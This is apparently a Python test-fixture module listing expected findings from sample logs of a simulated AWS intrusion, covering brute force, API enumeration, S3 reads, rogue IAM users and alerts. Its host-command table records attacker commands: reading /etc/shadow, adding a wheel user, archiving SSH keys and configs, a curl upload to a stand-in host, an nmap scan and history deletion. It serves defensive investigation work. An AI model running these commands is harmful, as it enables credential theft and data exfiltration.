"""What the investigations find in the sample logs: the cells of each table, as they are printed."""

Row = tuple[str, ...]


def _rows(text: str) -> tuple[Row, ...]:
    return tuple(tuple(cell.strip() for cell in line.split("|")) for line in text.strip().splitlines())


ADDRESS_STEPS = _rows("""
07:52:09 | 08:04:30 | aws.elb         | -                              | success | 46  | -
07:52:10 | 07:52:10 | aws.cloudfront  | Hit                            | success | 1   | -
07:52:10 | 08:04:48 | aws.elb         | -                              | failure | 431 | -
07:52:23 | 08:04:38 | aws.waf         | ALLOW                          | success | 82  | SC
07:52:25 | 07:52:25 | aws.cloudfront  | Miss                           | success | 1   | -
07:52:40 | 08:04:35 | aws.cloudfront  | Error                          | failure | 66  | SC
07:52:44 | 08:04:48 | nginx.access    | -                              | failure | 50  | -
07:52:44 | 08:04:48 | nginx.error     | -                              | -       | 49  | -
07:54:54 | 09:58:17 | aws.vpcflow     | ACCEPT                         | success | 183 | -
07:54:57 | 07:59:07 | apache.access   | -                              | failure | 88  | -
07:54:57 | 07:59:07 | apache.error    | -                              | -       | 96  | -
08:00:12 | 08:00:47 | aws.waf         | BLOCK                          | failure | 6   | SC
08:20:07 | 08:31:03 | system.auth     | ssh_connection                 | failure | 4   | -
08:20:11 | 08:32:34 | aws.vpcflow     | REJECT                         | failure | 639 | -
08:36:00 | 09:06:00 | aws.guardduty   | PORT_PROBE                     | -       | 2   | SC
08:36:00 | 09:06:00 | aws.securityhub | port_probe                     | -       | 3   | SC
08:41:16 | 09:12:12 | system.auth     | ssh_login                      | failure | 279 | -
08:41:18 | 09:58:17 | system.auth     | ssh_disconnect                 | -       | 172 | -
08:41:34 | 09:12:09 | system.auth     | authentication_failure         | failure | 61  | -
08:43:54 | 09:12:41 | aws.route53     | -                              | failure | 6   | -
08:58:00 | 09:28:00 | aws.guardduty   | NETWORK_CONNECTION             | -       | 2   | SC
08:58:00 | 08:58:00 | aws.securityhub | Create                         | -       | 1   | -
08:58:00 | 09:28:00 | aws.securityhub | network_connection             | -       | 2   | SC
09:12:41 | 09:12:41 | system.auth     | ssh_login                      | success | 1   | -
09:25:10 | 09:25:10 | aws.cloudtrail  | GetCallerIdentity              | success | 1   | -
09:25:44 | 09:25:44 | aws.cloudtrail  | ListBuckets                    | success | 1   | -
09:26:20 | 09:26:20 | aws.cloudtrail  | ListUsers                      | failure | 1   | -
09:26:31 | 09:26:31 | aws.cloudtrail  | ListRoles                      | failure | 1   | -
09:26:52 | 09:26:52 | aws.cloudtrail  | GetAccountAuthorizationDetails | failure | 1   | -
09:27:15 | 09:27:15 | aws.cloudtrail  | ListAttachedUserPolicies       | success | 1   | -
09:28:02 | 09:28:02 | aws.cloudtrail  | DescribeInstances              | success | 1   | -
09:28:40 | 09:28:40 | aws.cloudtrail  | DescribeSecurityGroups         | success | 1   | -
09:29:33 | 09:29:33 | aws.cloudtrail  | DescribeDBInstances            | failure | 1   | -
09:30:12 | 09:30:12 | aws.cloudtrail  | ListFunctions20150331          | success | 1   | -
09:31:05 | 09:31:05 | aws.cloudtrail  | ListSecrets                    | success | 1   | -
09:31:40 | 09:36:48 | aws.cloudtrail  | GetSecretValue                 | failure | 45  | -
09:37:48 | 09:37:48 | aws.cloudtrail  | DescribeTrails                 | success | 1   | -
09:38:30 | 09:38:30 | aws.cloudtrail  | GetBucketPolicy                | failure | 1   | -
09:38:30 | 09:38:30 | aws.s3access    | REST.GET.BUCKETPOLICY          | failure | 1   | -
09:40:03 | 09:40:03 | aws.cloudtrail  | ListObjectsV2                  | success | 1   | -
09:40:03 | 09:40:03 | aws.s3access    | REST.GET.BUCKET                | success | 1   | -
09:40:23 | 09:46:46 | aws.cloudtrail  | GetObject                      | success | 148 | -
09:40:23 | 09:46:46 | aws.s3access    | REST.GET.OBJECT                | success | 148 | -
09:41:00 | 10:11:00 | aws.guardduty   | AWS_API_CALL                   | -       | 5   | SC
09:41:00 | 10:11:00 | aws.securityhub | aws_api_call                   | -       | 8   | SC
09:52:11 | 09:52:11 | aws.cloudtrail  | CreateUser                     | failure | 1   | -
09:52:58 | 09:52:58 | aws.cloudtrail  | CreateUser                     | success | 1   | -
09:53:26 | 09:53:26 | aws.cloudtrail  | CreateAccessKey                | success | 1   | -
09:54:01 | 09:54:01 | aws.cloudtrail  | AttachUserPolicy               | success | 1   | -
09:54:40 | 09:54:40 | aws.cloudtrail  | CreateLoginProfile             | failure | 1   | -
09:56:09 | 09:56:09 | aws.cloudtrail  | StopLogging                    | failure | 1   | -
""")

KEY_ADDRESSES = _rows("""
shop-deploy  | 198.51.100.24 | 06:40:05 | 12:10:51 | 144 | 0
shop-deploy  | 203.0.113.66  | 09:25:10 | 09:56:09 | 213 | 53
shop-monitor | 203.0.113.71  | 10:03:20 | 10:20:37 | 11  | 4
""")

KEY_CALLS = _rows("""
09:25:10 | shop-deploy  | GetCallerIdentity              | success | 1
09:25:44 | shop-deploy  | ListBuckets                    | success | 1
09:26:20 | shop-deploy  | ListUsers                      | failure | 1
09:26:31 | shop-deploy  | ListRoles                      | failure | 1
09:26:52 | shop-deploy  | GetAccountAuthorizationDetails | failure | 1
09:27:15 | shop-deploy  | ListAttachedUserPolicies       | success | 1
09:28:02 | shop-deploy  | DescribeInstances              | success | 1
09:28:40 | shop-deploy  | DescribeSecurityGroups         | success | 1
09:29:33 | shop-deploy  | DescribeDBInstances            | failure | 1
09:30:12 | shop-deploy  | ListFunctions20150331          | success | 1
09:31:05 | shop-deploy  | ListSecrets                    | success | 1
09:31:40 | shop-deploy  | GetSecretValue                 | failure | 45
09:37:48 | shop-deploy  | DescribeTrails                 | success | 1
09:38:30 | shop-deploy  | GetBucketPolicy                | failure | 1
09:40:03 | shop-deploy  | ListObjectsV2                  | success | 1
09:40:23 | shop-deploy  | GetObject                      | success | 148
09:52:11 | shop-deploy  | CreateUser                     | failure | 1
09:52:58 | shop-deploy  | CreateUser                     | success | 1
09:53:26 | shop-deploy  | CreateAccessKey                | success | 1
09:54:01 | shop-deploy  | AttachUserPolicy               | success | 1
09:54:40 | shop-deploy  | CreateLoginProfile             | failure | 1
09:56:09 | shop-deploy  | StopLogging                    | failure | 1
10:03:20 | shop-monitor | GetCallerIdentity              | success | 1
10:04:02 | shop-monitor | ListUsers                      | success | 1
10:04:31 | shop-monitor | DescribeTrails                 | success | 1
10:05:12 | shop-monitor | StopLogging                    | failure | 1
10:05:48 | shop-monitor | StopLogging                    | success | 1
10:07:30 | shop-monitor | ListDetectors                  | success | 1
10:08:14 | shop-monitor | DeleteDetector                 | failure | 1
10:11:45 | shop-monitor | RunInstances                   | failure | 2
10:14:02 | shop-monitor | CreateKeyPair                  | success | 1
10:20:37 | shop-monitor | CreateLoginProfile             | success | 1
""")

KEY_PERSISTENCE = _rows("""
09:52:58 | shop-deploy  | CreateUser         | shop-monitor | 203.0.113.66
09:53:26 | shop-deploy  | CreateAccessKey    | shop-monitor | 203.0.113.66
09:54:01 | shop-deploy  | AttachUserPolicy   | shop-monitor | 203.0.113.66
10:05:48 | shop-monitor | StopLogging        | -            | 203.0.113.71
10:14:02 | shop-monitor | CreateKeyPair      | -            | 203.0.113.71
10:20:37 | shop-monitor | CreateLoginProfile | shop-monitor | 203.0.113.71
""")

HOST_STEPS = _rows("""
1 ports refused            | 655 | 08:18:04 | 09:50:14 | 203.0.113.66 | 642 | 0  | -
2 wrong passwords          | 403 | 08:21:16 | 09:52:15 | 203.0.113.66 | 0   | 15 | oracle
3 logins from outside      | 1   | 09:12:41 | 09:12:41 | 203.0.113.66 | 0   | 1  | backup
4 accounts made or changed | 4   | 09:15:21 | 09:15:55 | -            | 0   | 1  | svc-update
5 alerts                   | 24  | 08:36:00 | 10:02:00 | 10.20.0.15   | 3   | 0  | -
""")

HOST_COMMANDS = _rows("""
09:12:50 | backup     | failure | backup : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/id
09:13:01 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/id
09:13:22 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow
09:14:16 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/sbin/ss -tnp
09:15:21 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash svc-update
09:15:21 | -          | success | new group: name=svc-update, GID=1012
09:15:21 | svc-update | success | new user: name=svc-update, UID=1012, GID=1012, home=/home/svc-update, shell=/bin/bash, from=/dev/pts/0
09:15:33 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/sbin/usermod -aG wheel svc-update
09:15:33 | svc-update | success | add 'svc-update' to group 'wheel'
09:15:51 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/passwd svc-update
09:15:55 | svc-update | success | pam_unix(passwd:chauthtok): password changed for svc-update
09:16:37 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/tar -czf /tmp/.cache.tgz /home /etc/ssh /opt/shop/config
09:16:53 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/curl -sk -T /tmp/.cache.tgz https://203.0.113.200/u
09:21:30 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/nmap -Pn -n -p 22,3306,6379,9200 10.20.8.20-49
09:29:06 | backup     | success | backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/rm -f /tmp/.cache.tgz /home/backup/.bash_history
""")  # noqa: E501

HOST_PEERS = _rows("""
203.0.113.200 | 14 | 58114311 | 09:17:07 | 09:55:07
203.0.113.66  | 75 | 1263239  | 08:42:48 | 09:58:17
203.0.113.71  | 40 | 172110   | 08:44:05 | 09:11:45
198.51.100.24 | 4  | 130158   | 08:21:06 | 09:56:00
192.0.2.205   | 1  | 7264     | 08:19:47 | 08:19:47
""")

HOST_ALERTS = _rows("""
08:36:00 | Recon:EC2/PortProbeUnprotectedPort                                             | PORT_PROBE         | 2  | 2
08:36:00 | Unprotected port on EC2 instance i-0e3b7c94a1d85f206 is being probed           | port_probe         | 20 | 3
08:58:00 | 203.0.113.66 is performing SSH brute force attacks against i-0e3b7c94a1d85f206 | network_connection | 50 | 2
08:58:00 | 203.0.113.71 is performing SSH brute force attacks against i-0e3b7c94a1d85f206 | network_connection | 20 | 2
08:58:00 | UnauthorizedAccess:EC2/SSHBruteForce                                           | NETWORK_CONNECTION | 5  | 4
08:58:00 | i-0e3b7c94a1d85f206: SSH brute force attacks                                   | Create             | 47 | 1
09:32:00 | Backdoor:EC2/C&CActivity.B                                                     | NETWORK_CONNECTION | 8  | 2
09:32:00 | i-0e3b7c94a1d85f206 is communicating with a command and control server         | network_connection | 80 | 4
09:32:00 | i-0e3b7c94a1d85f206: talk with a command and control server                    | Create             | 73 | 1
09:37:00 | Outbound port scan from EC2 instance i-0e3b7c94a1d85f206                       | network_connection | 50 | 1
09:37:00 | Recon:EC2/Portscan                                                             | NETWORK_CONNECTION | 5  | 1
10:02:00 | i-0e3b7c94a1d85f206 is communicating with a command and control server         | Isolate host       | 80 | 1
""")

EDGE_LOGS = _rows("""
07:52:10 | 07:52:25 | aws.cloudfront | success | 2   | 1
07:52:10 | 08:04:48 | aws.elb        | failure | 417 | 1
07:52:12 | 07:58:33 | aws.elb        | success | 3   | 1
07:52:23 | 08:04:38 | aws.waf        | success | 82  | 1
07:52:40 | 08:04:35 | aws.cloudfront | failure | 66  | 1
07:52:44 | 08:04:48 | nginx.access   | failure | 50  | 1
07:52:44 | 08:04:48 | nginx.error    | -       | 49  | 0
07:54:57 | 07:59:07 | apache.access  | failure | 88  | 1
07:54:57 | 07:59:07 | apache.error   | -       | 96  | 0
08:00:12 | 08:00:47 | aws.waf        | failure | 6   | 1
""")

EDGE_BLOCKS = _rows("""
08:00:12 | 08:00:47 | aws-sqli | SQL_INJECTION | /item/10482 | 6
""")

BEACONS = _rows("""
09:16:52 | 09:56:43 | A   | -     | 6  | 203.0.113.200
09:16:55 | 12:40:15 | TXT | -     | 30 | -
09:29:16 | 09:56:43 | TXT | ALERT | 3  | -
12:58:20 | 12:58:20 | TXT | BLOCK | 1  | -
""")

BUCKET_OPERATIONS = _rows("""
09:38:30 | 09:38:30 | shop-deploy | REST.GET.BUCKETPOLICY | failure | 1   | 243
09:40:03 | 09:40:03 | shop-deploy | REST.GET.BUCKET       | success | 1   | 24310
09:40:23 | 09:46:46 | shop-deploy | REST.GET.OBJECT       | success | 148 | 456955457
""")

FINDINGS = _rows("""
06:12:36 | Security Hub | S3 general purpose buckets should block public access                     | 70 | 1
06:14:03 | Security Hub | Security groups should not allow ingress from everywhere to port 22       | 70 | 1
06:14:44 | Security Hub | EC2 instances should use Instance Metadata Service Version 2 (IMDSv2)     | 70 | 1
06:21:00 | Inspector    | CVE-2026-99901 - nginx                                                    | 99 | 3
06:41:20 | Macie        | The S3 object contains personal information                               | 73 | 2
09:32:00 | GuardDuty    | i-0e3b7c94a1d85f206 is communicating with a command and control server    | 80 | 5
09:32:00 | GuardDuty    | i-0e3b7c94a1d85f206: talk with a command and control server               | 73 | 1
09:56:00 | GuardDuty    | User IAMUser : shop-deploy is anomalously reading objects of an S3 bucket | 80 | 2
""")
